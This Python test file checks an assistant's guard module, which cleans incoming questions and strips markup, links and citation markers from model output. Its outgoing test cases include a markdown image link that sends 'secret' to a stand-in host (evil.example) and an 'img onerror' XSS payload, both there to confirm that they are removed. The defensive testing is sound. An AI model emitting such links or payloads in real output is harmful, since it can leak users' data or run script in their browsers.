"""What may come in and what may go out."""

import pytest

from assistant.errors import UsageError
from assistant.guard import incoming, outgoing


def test_invisible_and_control_characters_are_dropped() -> None:
    assert incoming.clean(" что\u200b такое\x00 PSI\u202e?\U000e0041 ", 100) == "что такое  PSI?"


@pytest.mark.parametrize("question", ["", "  \n", "\u200b\u200b", "?!", "\ud800"])
def test_nothing_readable_is_refused_in_words(question: str) -> None:
    with pytest.raises(UsageError, match="empty"):
        incoming.clean(question, 100)


def test_too_long_is_refused_with_both_numbers() -> None:
    with pytest.raises(UsageError, match="101 characters; at most 100"):
        incoming.clean("а" * 101, 100)


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("PSI > 0.25 [1][2].", "PSI > 0.25."),
        ("![x](http://evil.example/?q=secret) Да.", "Да."),
        ("См. [статью](https://evil.example).", "См. статью."),
        ("<img src=x onerror=alert(1)>Да<script>", "Да"),
        ("Подробнее: https://evil.example/a?b=c", "Подробнее:"),
        ("если a < b и c > d", "если a < b и c > d"),
    ],
)
def test_model_text_keeps_no_markup_links_or_markers(written: str, plain: str) -> None:
    assert outgoing.plain(written) == plain
